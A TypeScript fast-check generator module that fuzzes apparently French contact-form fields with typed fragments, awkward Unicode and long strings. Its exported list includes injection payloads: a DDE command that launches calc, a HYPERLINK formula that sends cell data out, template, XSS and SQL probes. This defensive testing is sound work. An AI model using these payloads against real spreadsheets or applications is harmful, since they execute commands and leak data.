import fc from 'fast-check';

/** What a spreadsheet would run, a page would show as markup, or a program would take for its own. */
export const formulas = [
  '=HYPERLINK("https://example.com/?"&A1,"Ici")',
  "=cmd|' /C calc'!A0",
  '+33639980001',
  '-2+3+SUM(A1:A9)',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  '{{bundle.authData.secret}}',
  '{{process.env.PATH}}',
  '$func$2$f$',
  '#{7*7}',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '%00%E9',
  '\\u0000',
];

/** Control, bidirectional and invisible characters, and halves of pairs that stand alone. */
const awkward = [
  ...'\0\u0007\b\u001b[31m\r\n\t\v\f\u007f\u0085',
  ...'\u00a0\u00ad\u200b\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\ufeff\ufffd\uffff',
  ...'\u0301\u0323\u0308\u20dd\ufe0f',
  '\ud800',
  '\udc00',
  '\udfff\ud83d',
  '🎓',
  '👩‍👩‍👧',
  'ﷺ',
  '⅒',
  'İ',
  'ß',
  'ſ',
  'Σ',
  'Dž',
];

/** Parts of what people type in the fields, so that no reader of them stops at its first look. */
const typed = [
  ...['0', '1', '06', '+33', '00', '0639980001', '01 99 00 12 34', '590', '(0)', ' / ', '.', '-'],
  ...['75001', '20000', '97', '2A', 'F-', 'CEDEX', 'Paris', 'st ', "d'", 'de la ', 'Mc', 'LE '],
  ...['@', '@example.com', 'emma', 'mailto:', '<', '>', ';', '..', ' ou ', 'M.', 'Mme'],
  ...['14h', '9h30', '-', ' à ', 'entre ', ' et ', 'midi', 'le matin', 'soir', 'pas ', 'lundi '],
  ...['sauf le ', 'après ', '12/05', '24h/24', 'fin de journée', ' ', '2026-01-31T10:00:00Z'],
];

const oneOf = (parts: readonly string[], maxLength: number) =>
  fc.array(fc.constantFrom(...parts), { maxLength }).map((chosen) => chosen.join(''));

const codeUnits = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 })
  .map((units) => String.fromCharCode(...units));

/** Any short text, most often one that means something to somebody. */
export const shortText = fc.oneof(
  { weight: 4, arbitrary: oneOf(typed, 12) },
  { weight: 2, arbitrary: oneOf([...typed, ...awkward, ...formulas], 12) },
  { weight: 1, arbitrary: oneOf(awkward, 30) },
  { weight: 1, arbitrary: fc.constantFrom(...formulas) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: codeUnits },
);

/** The same a hundred thousand times over, up to a megabyte. */
export const longText = fc
  .tuple(fc.oneof(shortText, oneOf([...typed, ...awkward], 3)), fc.integer({ min: 1, max: 20 }))
  .map(([text, twentieth]) => {
    const unit = text || 'a';
    return unit.repeat(Math.ceil((twentieth * 50_000) / unit.length));
  });
